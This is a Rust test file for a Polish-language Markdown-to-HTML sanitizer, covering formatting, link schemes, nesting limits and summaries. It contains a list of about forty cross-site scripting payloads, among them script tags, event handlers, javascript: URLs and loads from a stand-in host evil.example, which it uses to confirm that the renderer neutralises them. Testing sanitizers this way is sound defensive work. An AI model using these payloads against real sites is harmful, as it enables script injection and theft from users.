//! What the subset makes of texts, and what attacks become.

use super::*;

#[test]
fn the_subset_is_written_as_html() {
    let html = to_html(
        "Pierwszy *raz* i **drugi**\nnowy wiersz\n\nDrugi akapit\n\n- a\n- b\n\n3. trzy\n\n> cytat\n\n---\n",
    );
    assert_eq!(
        html.replace('\n', ""),
        "<p>Pierwszy <em>raz</em> i&nbsp;<strong>drugi</strong><br>nowy wiersz</p><p>Drugi akapit</p>\
         <ul><li>a</li><li>b</li></ul><ol start=\"3\"><li>trzy</li></ol>\
         <blockquote><p>cytat</p></blockquote><hr>"
    );
}

#[test]
fn headings_stand_below_the_page_and_skip_no_level() {
    assert_eq!(to_html("## A\n\n#### B\n\n## C").replace('\n', ""), "<h2>A</h2><h3>B</h3><h2>C</h2>");
    assert_eq!(to_html("# A").trim(), "<h2>A</h2>");
    assert_eq!(to_html_below("# A\n## B", 5).replace('\n', ""), "<h6>A</h6><h6>B</h6>");
    // A line under a text is a line, not a sign that the text was a heading.
    assert_eq!(to_html("Tekst\n---").replace('\n', ""), "<p>Tekst</p><hr>");
}

#[test]
fn only_links_with_known_schemes_stay() {
    assert_eq!(
        to_html("[strona](https://example.org/a?b=1&c \"tytuł\")").trim(),
        "<p><a href=\"https://example.org/a?b=1&amp;c\" rel=\"nofollow noopener noreferrer ugc\">strona</a></p>"
    );
    assert!(to_html("www.example.org").contains("href=\"http://www.example.org\""));
    assert!(to_html("pisz: ala@example.org").contains("href=\"mailto:ala@example.org\""));
    for refused in ["[x](javascript:alert(1))", "[x](/admin)", "[x](//evil.example)", "[x](data:text/html,x)"]
    {
        assert_eq!(to_html(refused).trim(), "<p>x</p>", "{refused}");
    }
}

#[test]
fn pictures_code_and_html_become_words() {
    assert_eq!(to_html("![ławka](https://example.org/a.png)").trim(), "<p>ławka</p>");
    assert_eq!(to_html("a `b<c` d").trim(), "<p>a&nbsp;b&lt;c d</p>");
    assert_eq!(to_html("    wcięty\n    tekst").trim(), "<p>wcięty<br>\ntekst</p>");
    assert_eq!(to_html("<div>\nx <3\n</div>").trim(), "<p>&lt;div&gt;<br>\nx &lt;3<br>\n&lt;/div&gt;</p>");
    assert_eq!(to_html("a <b>b</b>").trim(), "<p>a&nbsp;&lt;b&gt;b&lt;/b&gt;</p>");
    assert_eq!(to_html("| a | b |\n|---|---|\n| 1 | 2 |").matches("<table").count(), 0);
}

/// Known ways to smuggle a script through Markdown and HTML filters.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>@import 'https://evil.example';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example 'onmouseover=alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://a.example/x\"onerror=\"alert(1))",
    "![\"onerror=alert(1) x=\"](y)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onmouseover=alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "> <object data=//evil.example>",
    "- <embed src=//evil.example>",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\0script>alert(1)</script>",
    "<a href=\"https://a.example\" target=_blank onclick=alert(1)>x</a>",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
];

/// Every tag of some HTML as it is written, `<p>` or `</a>`.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split_once('>').map_or(rest, |(tag, _)| tag)).collect()
}

#[test]
fn no_attack_brings_a_tag_attribute_or_address_of_its_own() {
    const PLAIN: [&str; 15] =
        ["p", "br", "h2", "h3", "h4", "h5", "h6", "em", "strong", "ul", "ol", "li", "blockquote", "hr", "a"];
    for attack in ATTACKS {
        for html in
            [to_html(attack), to_html(&format!("Tekst {attack} dalej")), to_html(&format!("> * {attack}"))]
        {
            for tag in tags(&html) {
                let plain = PLAIN.contains(&tag.trim_start_matches('/'));
                let link = tag.strip_prefix("a href=\"").is_some_and(|rest| {
                    let (address, rest) = rest.split_once('"').unwrap_or_default();
                    ["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme))
                        && rest == " rel=\"nofollow noopener noreferrer ugc\""
                });
                assert!(plain || link, "{attack:?} made <{tag}> in {html:?}");
            }
        }
    }
}

#[test]
fn deep_nesting_is_made_flat() {
    let html = to_html(&format!("{}tekst", "> ".repeat(1_000)));
    assert_eq!(html.matches("<blockquote>").count(), 8);
    assert!(html.contains("tekst"));
    let html = to_html(&format!("{}punkt", "- ".repeat(30)));
    assert_eq!((html.matches("<ul>").count(), html.matches("<li>").count()), (8, 8));
    assert!(html.contains("punkt"));
}

#[test]
fn long_runs_of_signs_are_borne() {
    for piece in ["> ", "- ", "[", "*", "**a ", "![", "<b>", "`", "1. ", "_a*"] {
        let html = to_html(&piece.repeat(5_000));
        assert!(html.len() < 4_000_000, "{piece:?}: {}", html.len());
    }
}

#[test]
fn summaries_are_plain_and_end_between_words() {
    let text = "## Nagłówek\n\nByła tu **ławka**, a [obok](https://example.org) *lipa*.\nI pies.\n\n- jeden\n- dwa\n";
    assert_eq!(plain_text(text), "Była tu ławka, a\u{a0}obok lipa. I\u{a0}pies. jeden dwa");
    assert_eq!(plain_summary(text, 200), plain_text(text));
    assert_eq!(plain_summary(text, 16), "Była tu ławka…");
    assert_eq!(plain_summary(text, 8), "Była tu…");
    assert_eq!(plain_summary("nieprzerwane", 5), "niep…");
    assert_eq!(plain_summary(text, 0), "");
    for length in 1..60 {
        assert!(plain_summary(text, length).chars().count() <= length, "{length}");
    }
    assert_eq!(plain_text("<script>x</script> a"), "<script>x</script> a");
}
